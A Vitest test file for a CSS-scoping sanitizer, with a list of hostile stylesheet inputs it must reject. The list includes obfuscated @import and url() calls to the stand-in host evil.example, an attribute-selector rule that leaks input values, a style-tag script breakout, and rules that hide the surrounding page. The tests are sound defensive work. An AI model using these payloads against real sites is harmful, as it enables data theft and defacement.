import { expect, it, test } from 'vitest';
import { scopeStyles } from './scope-styles.ts';

const resultOf = (css: string) => {
  const styles = scopeStyles(css);
  return 'css' in styles ? styles.css : styles.problem;
};

test.each([
  ['h1 { color: red }', '.cv-page h1{color:red}'],
  ['body { color: red } :root { --accent: #123456 }', '.cv-page{color:red}.cv-page{--accent:#123456}'],
  ['html.a > p, .b::before { content: "x" }', '.cv-page.a>p,.cv-page .b::before{content:"x"}'],
  ['@media (min-width: 700px) { p { margin: 0 } }', '@media (min-width:700px){.cv-page p{margin:0}}'],
  ['@keyframes a { from { opacity: 0 } 50% { opacity: 1 } }', '@keyframes a{from{opacity:0}50%{opacity:1}}'],
  ['p { background: url(/logo.png) }', '.cv-page p{background:url(/logo.png)}'],
  [
    'p { background: url("data:image/png;base64,AA==") }',
    '.cv-page p{background:url(data:image/png;base64,AA==)}',
  ],
  ['body > p ~ p { color: red }', '.cv-page>p~p{color:red}'],
  ['p { & + p { color: red } }', '.cv-page p{&+p{color:red}}'],
  ['body { & > p ~ p { color: red } }', '.cv-page{&>p~p{color:red}}'],
  ['p { & b { color: red } }', '.cv-page p{& b{color:red}}'],
])('writes %j below the page of the survey', (css, scoped) => {
  expect(resultOf(css)).toBe(scoped);
});

const HOSTILE = [
  '@import "https://evil.example/a.css";',
  '@IMPORT url(//evil.example);',
  '@\\69mport "https://evil.example/a.css";',
  '@charset "x"; @namespace url(http://www.w3.org/1999/xhtml);',
  '@layer base { p { color: red } }',
  'p { background: url(https://evil.example/?a) }',
  'p { background: url(//evil.example) }',
  'p { background: url(/\\\\evil.example) }',
  'p { background: u\\72l(https://evil.example) }',
  'p { background: URL("java\\nscript:alert(1)") }',
  'p { background: image-set("https://evil.example/a.png" 1x) }',
  'p { background: src("https://evil.example/a.png") }',
  'input[value^="a"] { background-image: url(https://evil.example/a) }',
  'p { --x: url(https://evil.example) } b { background: var(--x) }',
  'p { behavior: url(/a.htc) }',
  'p { -moz-binding: url(/a.xml#a) }',
  'p { width: expression(alert(1)) }',
  'p { background: url(data:image/svg+xml;base64,AA==) }',
  'p { color: red } }',
  '</style><script>alert(1)</script>',
  '@font-face { font-family: a; src: url(https://evil.example/a.woff2) }',
  'body ~ * { display: none }',
  ':root + div { display: none }',
  'HTML.a:not(.b) ~ .app-bar { display: none }',
  'p, body + div { display: none }',
  '@media print { html ~ * { display: none } }',
  'body { & ~ * { display: none } }',
  'body { ~ * { display: none } }',
  'body { + div { display: none } }',
  'p, body { & + div { display: none } }',
  'body { & { & ~ * { display: none } } }',
  'body { .dark & ~ * { display: none } }',
  'body { .dark & { & ~ * { display: none } } }',
  'body { @media print { & ~ * { display: none } } }',
  'body { :is(& ~ *) { display: none } }',
  'p { :not(&) { display: none } }',
  'p { div:has(&) { display: none } }',
] as const;
test.each(HOSTILE)('refuses %j', (css) => {
  expect(resultOf(css)).toMatchObject({ message: expect.any(String), line: expect.any(Number) });
});

it('the problem has the line of the rejected part', () => {
  expect(resultOf('p { color: red }\n\n@import "a.css";')).toEqual({
    message: '@import may not be used',
    line: 3,
  });
});
